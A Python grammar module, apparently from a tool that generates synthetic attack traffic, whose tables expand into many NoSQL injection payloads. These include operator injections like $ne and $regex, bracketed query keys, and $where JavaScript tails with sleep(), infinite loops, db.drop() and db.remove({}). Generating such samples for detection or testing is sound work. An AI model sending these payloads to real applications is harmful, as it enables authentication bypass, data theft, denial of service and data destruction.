"""NoSQL injection in short: one operator, one bracketed key, one line of JavaScript."""

from traffic.grammars.attacks.nosqli import PUBLIC, SECRETS
from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "f": (
        "username", "username", "login", "user[name]", "auth", "uid", "‹secret›", "‹secret›",
        "‹secret›", "‹secret›",
    ),
    "secret": SECRETS,
    "open": PUBLIC,
    "all": (
        "''", '""', "null", "0", "-1", "1", "'‹abc›'", '"‹rnd›"', "‹n›", "undefined", "[]", "{}",
        "'a'", "NaN",
    ),
    "op": (
        "$ne", "$ne", "$ne", "$gt", "$gt", "$gte", "$lt", "$nin", "$regex", "$exists", "$not",
        "$in", "$or", "$eq", "$type", "$where", "$lte",
    ),
    "any": (
        "'.*'", '".*"', "'^‹abc›'", '"^‹abc›.*"', "/.*/", "/^‹abc›/", "'.{‹n8›}'", '"^.{‹d›}"',
        "'^a'", '"[a-z]{‹n›}"', "/‹abc›/i",
    ),
    "rx": (
        ".*", "^‹abc›.*", "^‹abc›", ".{‹n›}", "^.{‹d›}$", "^[a-‹abc›]", "^(?!‹abc›)", "‹abc›.*",
        "^.+",
    ),
    "s": ("", " "),
    "o": (
        "{‹s›$‹ne¦gt¦gte¦lt¦nin›:‹s›‹all›‹s›}", '{‹s›"‹op›":‹s›‹all›‹s›}', "{'‹op›':‹s›‹all›}",
        "‹bare›", "‹bare›", "‹bare›", "{$exists:‹s›true}", '{"$in":[‹all›,‹all›]}',
        "{$mod:[‹d›,‹d›]}", '{"$gt":‹all›}',
    ),
    # Also where nothing tells whose the operator is.
    "bare": (
        "{‹s›$‹ne¦nin›:‹s›‹all›‹s›}", "{‹s›$gt:‹s›''‹s›}", "{‹s›'$ne':‹s›‹all›‹s›}",
        "{‹s›$regex:‹s›‹any›‹s›}", '{"$regex":"‹rx›"}', '{"$ne":‹all›}', '{"$gt":""}',
        "{$where:‹s›'‹js›'}", '{"$where":"‹js›"}', "{$gt:‹s›undefined}",
        "{$or:[{},{‹f›:‹all›}]}", "{$not:{$type:‹d›}}", '{"$nin":[‹all›]}', "{$ne:‹n›}",
        '{"$gt":"","$ne":‹all›}',
    ),
    "bop": ("$ne", "$ne", "$gt", "$nin", "$regex", "$not", "$or", "$where"),
    "js": (
        "return true", "1==1", "sleep(‹nn›00)", "return(1)", "‹own›", "‹own›", "‹own›",
        "this.‹f›.match(/.*/)", "this.‹f›.match(/^‹abc›.*/)", "this.‹f›.length>‹d›",
        "this.‹f›.length==‹n8›", "this.‹f›!=‹all›", "this.‹f›==this.‹f›", "db.‹id›.find()",
        "db.‹id›.find({})", "db.‹id›.drop()", "db.‹id›.count()", "db.getCollectionNames()",
        "‹n#1›==‹n#1›", "'‹abc#1›'=='‹abc#1›'", "return ‹n#1›==‹n#1›", "sleep(‹d›000)",
        "this.‹f›.startsWith('‹abc›')", "this.‹f›[‹d›]=='‹abc›'", "while(true){}",
        "return this.‹f›!=null", "Object.keys(this)[‹d›]", "tojsononeline(this)", "db.version()",
        "db.‹id›.insert({})", "db.runCommand({ping:‹d›})",
    ),
    "own": (
        "this.‹f›.match(/‹rx›/)", "this.‹f›.length>‹n8›", "this.‹f›!=‹all›", "this.‹f›==‹all›",
        "db.‹id›.find()", "db.‹id›.find({‹f›:‹all›})", "db.‹id›.drop()", "db.‹id›.count()",
        "sleep(‹nn›00)", "this.‹f›.startsWith('‹abc›')", "this.‹f›[‹d›]=='‹abc›'",
        "db.‹id›.remove({})", "db.getCollection('‹id›').find()", "Object.keys(this)[‹d›]=='‹f›'",
    ),
    "q": ("'", '"'),
    "back": ("return ‹n#2›==‹n#2›", "return ‹d›", "return(‹n›)", "return !‹d›", "return this.‹f›"),
    "var": ("x", "y", "a", "‹abc›", "foo", "z", "‹id›"),
    "end": (
        "//", "//", "%00", "//%00", "/*", "<!--", "||'", ";//", "; //", "//‹rnd›", "#", "'\x00",
        "//+", "", "\\x00",
    ),
    "b": ("", "", "", "‹word›", "a", "1", "‹n›", "admin", "‹name›", "x", "‹rnd›"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    operator_short=(
        "‹bare›", "‹bare›", "‹f›=‹o›", "[‹bare›]", "‹b›',‹s›‹o›", "{‹f›:‹s›‹o›}",
        "‹o›‹s›,‹s›‹f›:‹o›", "‹open›=‹bare›", "{‹open›:‹s›‹bare›}", '{"‹secret›":‹o›}',
        "‹bop›: ‹all›", '"‹bop›": ‹all›', "‹b›\", \"‹bop›\": ‹all›", "‹b›', ‹bop›: ‹all›",
    ),
    bracket_short=(
        "‹f›[‹op›]=‹all›", "[$ne]=‹d›", "‹f›[$ne]=", "‹f›[$ne]=‹n›", "‹f›[$regex]=‹rx›",
        "[$regex]=‹rx›", "‹f›[$exists]=true&‹f›[$ne]=‹abc›", "?‹f›[$gt]=&‹f›[$ne]=",
        "‹f›[‹op›][]=‹abc›", "‹f›[$not][$in]=‹rnd›", "‹f›.$‹ne¦gt›=‹n›", "‹f›%5b$ne%5d=‹b›",
        "‹f›[$ne]=‹b›&‹f›[$ne]=‹b›", "‹f›[%24‹ne¦gt¦regex›]=‹b›",
        "‹f›[$options]=i&‹f›[$regex]=‹rx›",
    ),
    script_tail=(
        "‹b›';‹s›‹js›;‹s›var ‹var›='", "‹b›‹q#1›;‹s›‹back›;‹s›var ‹var›‹s›=‹s›‹q#1›",
        "‹b›‹q#1›;‹s›‹back›;‹s›‹let¦const¦var› ‹var›=‹q#1›‹abc›", "‹b›'‹s›||‹s›‹js›‹end›",
        "‹b›'‹s›||‹s›'‹abc#1›'=='‹abc#1›‹end›", "‹b›'‹s›&&‹s›‹js›‹end›", '‹b›"‹s›||‹s›‹js›‹end›',
        "||‹s›‹d#1›==‹d#1›‹end›", "‹b›||‹s›‹js›‹end›", "‹b›' || 1==1‹end›", "‹b›';‹js›‹end›",
        "‹b›'; while(1);var ‹var›='", "‹b›\\'; ‹js›‹end›", "‹b›') || ‹js›‹end›", "‹b›'});‹js›‹end›",
        "‹n›;‹js›", "‹b›'+‹js›+'", "‹b›']||‹js›‹end›", "1‹s›||‹s›‹js›", "true;‹js›",
        "‹b›'==‹all›||‹js›‹end›", ";‹js›;//‹abc›",
    ),
    script_alone=(
        "‹own›;", "$where:‹s›'‹own›'", '$where:‹s›"‹own›"', "$where=‹own›", "function(){‹own›}",
        "function() {‹s›return ‹own›;‹s›}", "return ‹own›;//", "‹own› && ‹own›", "‹own› || ‹own›",
        "(function(){‹own›})()", "{‹s›$where:‹s›‹own›‹s›}", "db.eval('‹own›')", "'‹own›'‹end›",
        "‹own›;‹own›", "mapReduce(function(){‹own›},‹n›)",
    ),
)
